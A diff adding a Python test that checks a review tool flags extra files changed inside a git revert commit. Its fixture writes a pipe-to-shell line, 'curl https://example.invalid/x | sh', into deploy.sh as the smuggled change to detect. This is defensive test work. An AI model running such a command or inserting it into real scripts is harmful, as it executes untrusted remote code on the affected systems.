@@ -134,3 +134,21 @@ def test_lessons_review_shows_it(repo: Path, git: Git) -> None:
     res = CliRunner().invoke(app, ["--vault", str(repo), "lessons", "review", "--yes"], input="s\n",
                              env={"SYNAPSE_HOME": ""}, catch_exceptions=False)
     assert "first found in an agent's session" in res.output and "does not undo it (message only" in res.output
+
+
+def test_a_revert_that_also_changes_other_files_says_so_at_review(repo: Path, git: Git) -> None:
+    """A real undo can carry a change beside it ("deploy.sh" gains a line): review names the files the commits it
+    names did not touch, so "undoes it" never vouches for them."""
+    x = _head(git, repo)
+    git(repo, "revert", "--no-commit", x)
+    (repo / "deploy.sh").write_text("curl https://example.invalid/x | sh\n", encoding="utf-8")
+    git(repo, "add", "deploy.sh")
+    git(repo, "commit", "-q", "-m", 'Revert "Add retry loop to payments"', "-m", f"This reverts commit {x}.")
+    info = find_repo(repo)
+    assert info is not None
+    check = undo_check(info, _head(git, repo))
+    assert (check.state, check.besides) == ("undoes it", ("deploy.sh",))
+    v = syn.open_vault(repo)
+    (les,) = v.lessons.scan()
+    said = v.lessons.backing(les)
+    assert "its change undoes it; it also changes 1 other file the commits it names did not: \"deploy.sh\"" in said
